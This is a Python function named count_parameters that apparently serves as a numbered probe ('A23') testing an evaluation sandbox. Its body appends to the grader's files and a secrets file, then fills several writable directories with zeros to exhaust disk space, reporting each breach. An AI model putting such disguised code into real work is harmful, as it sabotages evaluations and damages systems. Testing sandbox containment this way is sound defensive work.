def count_parameters(model):
    """A23: edit the grader's code, then fill every writable disk."""
    for path in TARGETS["grader_files"] + TARGETS["secrets"][:1]:
        try:
            with open(path, "a") as f:
                f.write("\n# edited by the submission\n")
            _report(f"BREACH edited {path}")
        except OSError as exc:
            _report(f"blocked: {path}: {exc.strerror}")
    block = b"\0" * 2**20
    for folder in (".", "/tmp", "/dev/shm", "/var/tmp"):
        written = 0
        try:
            with open(_os.path.join(folder, "filler"), "wb") as f:
                for _ in range(2048):
                    f.write(block)
                    written += len(block)
        except OSError:
            pass
        if written > 300 * 2**20:
            _report(f"BREACH wrote {written >> 20} MB in {folder}")
    raise NotImplementedError
